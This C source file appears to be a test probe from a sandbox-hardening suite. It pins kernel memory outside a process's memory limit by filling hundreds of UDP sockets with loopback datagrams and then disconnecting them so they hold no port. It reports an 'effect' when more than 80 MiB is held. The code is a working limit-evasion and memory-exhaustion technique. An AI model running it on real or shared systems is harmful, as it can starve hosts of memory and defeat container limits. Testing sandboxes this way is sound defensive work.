// Takes memory that belongs to no process and that the kernel lists nowhere: UDP sockets that hold what they got, and
// have no port any more.
// class: OS sandboxes: kernel memory that no limit counts
// plain: say
// flags: --memory 64MiB
#include "net.h"

#include <linux/sock_diag.h>

enum { kSockets = 900, kEach = 1024, kMost = 128 << 20, kEffect = 80 << 20 };

int main(int argc, char** argv) {
  (void)argc;
  attack(argv);
  static char block[16 << 10];
  const int sender = socket(AF_INET, SOCK_DGRAM, 0), much = INT_MAX;
  struct sockaddr_in from = at_v4("127.0.0.1", 0);
  socklen_t size = sizeof from;
  if (bind(sender, (struct sockaddr*)&from, sizeof from) != 0 ||
      getsockname(sender, (struct sockaddr*)&from, &size) != 0)
    refused("bind");
  size_t taken = 0;
  for (int i = 0; i < kSockets && taken < kMost; ++i) {
    const int held = socket(AF_INET, SOCK_DGRAM, 0);
    const struct sockaddr nobody = {.sa_family = AF_UNSPEC};
    struct sockaddr_in at;
    uint32_t memory[SK_MEMINFO_VARS] = {0};
    setsockopt(held, SOL_SOCKET, SO_RCVBUF, &much, sizeof much);
    // The port comes with the connection, and goes with it.
    size = sizeof at;
    if (connect(held, (struct sockaddr*)&from, sizeof from) != 0 || getsockname(held, (struct sockaddr*)&at, &size) != 0)
      refused("connect");
    size_t got = 0;
    for (int k = 0; k < kEach; ++k) {
      if (sendto(sender, block, sizeof block, 0, (struct sockaddr*)&at, sizeof at) < 0) refused("sendto");
      size = sizeof memory;
      if (getsockopt(held, SOL_SOCKET, SO_MEMINFO, memory, &size) != 0) refused("SO_MEMINFO");
      if (memory[SK_MEMINFO_RMEM_ALLOC] <= got) break;  // full
      got = memory[SK_MEMINFO_RMEM_ALLOC];
    }
    if (connect(held, &nobody, sizeof nobody) != 0) refused("disconnect");
    taken += got;
  }
  nap(inside() ? 20000 : 0);  // as long as somebody who looks from time to time may need on a busy machine
  if (taken > kEffect) effect("%zu MiB in sockets without a port", taken >> 20);
  return 0;
}
